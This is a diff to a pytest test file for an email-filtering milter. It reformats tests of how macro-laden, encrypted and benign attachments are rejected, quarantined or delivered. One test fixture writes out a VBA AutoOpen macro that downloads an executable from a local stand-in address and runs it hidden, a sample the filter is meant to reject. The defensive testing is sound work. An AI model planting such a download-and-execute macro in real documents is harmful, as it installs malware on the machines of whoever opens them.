@@ -9,8 +9,9 @@ from unpack_support import aes_zip, ooxml, vba_project, zipped
 
 pytestmark = pytest.mark.postfix
 
-DROPPER = ('Sub AutoOpen()\n  URLDownloadToFile 0, "http://127.0.0.1/a.exe", "a.exe", 0, 0\n'
-           '  Shell "a.exe", vbHide\nEnd Sub\n')
+DROPPER = (
+    'Sub AutoOpen()\n  URLDownloadToFile 0, "http://127.0.0.1/a.exe", "a.exe", 0, 0\n  Shell "a.exe", vbHide\nEnd Sub\n'
+)
 
 
 def test_eicar_in_zip_in_zip_is_rejected(postfix, milter):
@@ -28,8 +29,8 @@ def test_macro_dropper_is_rejected_and_locked_archive_quarantined(postfix, milte
     mid_macro, raw_macro = message(attachments=(("invoice.docm", docm, "application/octet-stream"),))
     locked = aes_zip({"scan.pdf": b"%PDF-1.4\n%%EOF\n"}, "n0t-in-the-body")
     mid_locked, raw_locked = message(attachments=(("scan.zip", locked, "application/zip"),))
-    assert postfix.send(raw_macro)[0] == 550         # auto-exec that downloads and runs: malware
-    assert postfix.send(raw_locked)[0] == 250        # accepted into the quarantine, not the mailbox
+    assert postfix.send(raw_macro)[0] == 550  # auto-exec that downloads and runs: malware
+    assert postfix.send(raw_locked)[0] == 250  # accepted into the quarantine, not the mailbox
     assert postfix.delivered(mid_macro, timeout=3) is None
     assert postfix.delivered(mid_locked, timeout=1) is None
 
@@ -53,11 +54,15 @@ def test_clamav_signature_rejects_and_keeps_the_sample(postfix, milter, clamd, t
 def test_harmless_macro_and_pdf_are_delivered(postfix, milter):
     milter()
     docm = ooxml("docm", {"word/vbaProject.bin": vba_project("Sub Tidy()\n  Selection.Font.Bold = True\nEnd Sub\n")})
-    mid, raw = message(attachments=(("table.docm", docm, "application/octet-stream"),
-                                    ("notes.zip", zipped({"a.txt": b"minutes"}), "application/zip")))
+    mid, raw = message(
+        attachments=(
+            ("table.docm", docm, "application/octet-stream"),
+            ("notes.zip", zipped({"a.txt": b"minutes"}), "application/zip"),
+        )
+    )
     assert postfix.send(raw)[0] == 250
     delivered = postfix.delivered(mid)
-    assert delivered is not None and delivered["X-Mailward-Verdict"] == "tag"     # a macro alone only tags
+    assert delivered is not None and delivered["X-Mailward-Verdict"] == "tag"  # a macro alone only tags
 
 
 def test_clamd_down_quarantines_inbound_never_delivers(postfix, milter, tmp_path):
@@ -66,7 +71,7 @@ def test_clamd_down_quarantines_inbound_never_delivers(postfix, milter, tmp_path
 
     milter(f'[clamav]\nsocket = "unix:{tmp_path / "no-clamd.sock"}"\n')
     mid, raw = message(attachments=(("notes.txt", b"Minutes of the meeting.\n", "text/plain"),))
-    assert postfix.send(raw)[0] == 250                 # accepted into the quarantine, not the mailbox
+    assert postfix.send(raw)[0] == 250  # accepted into the quarantine, not the mailbox
     assert postfix.delivered(mid, timeout=3) is None
     with open_store(load_settings(tmp_path / "mailward.toml")) as store:
         [held] = store.list(ListFilter())
